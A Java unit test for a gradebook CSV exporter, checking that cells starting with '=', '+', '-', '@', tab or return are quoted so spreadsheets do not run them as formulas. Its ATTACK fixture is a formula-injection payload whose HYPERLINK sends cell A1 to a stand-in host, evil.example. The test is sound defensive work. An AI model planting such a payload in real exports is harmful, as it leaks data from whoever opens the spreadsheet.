package threadmark.gradebook;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** No cell of an export runs as a formula when a spreadsheet opens it, whoever typed the text in it. */
class GradebookCsvTest {
    private static final String ATTACK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"grades\")";

    private static Gradebook book(String text) {
        return new Gradebook(text, text, "best", List.of(new Gradebook.Column("race-counter", text, text, 100, null, 0,
                null)), List.of(new Gradebook.StudentRow(text, text, text, text, text, Arrays.asList(80.0), 80)),
                List.of(new Gradebook.SubmissionLine(text, text, text, text, text, text, 1, 7, Instant.EPOCH, "DONE",
                        80.0, 100.0, null, 0, 0, 80.0, true, text, "")));
    }

    @Test
    void everyFreeTextCellThatStartsLikeAFormulaIsQuotedInEveryLayout() {
        for (String start : List.of("=", "+", "-", "@", "\t", "\r")) {
            String text = start + ATTACK.substring(1);
            for (GradebookCsv.Layout layout : GradebookCsv.Layout.values()) {
                String csv = GradebookCsv.write(book(text), layout);
                List<String> cells = cells(csv);
                assertThat(cells).as("%s export, text starting with %s", layout, start.strip().isEmpty() ? "whitespace" : start)
                        .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
            }
        }
    }

    private static List<String> cells(String csv) {
        try (CSVParser parser = CSVFormat.RFC4180.parse(new StringReader(csv))) {
            return parser.getRecords().stream().flatMap(CSVRecord::stream).toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @Test
    void ordinaryTextIsWrittenExactlyAsStored() {
        String csv = GradebookCsv.write(book("Ada.Lovelace@example.org"), GradebookCsv.Layout.MOODLE);
        assertThat(csv).contains("Ada.Lovelace@example.org,Ada.Lovelace@example.org").doesNotContain("'Ada");
    }
}
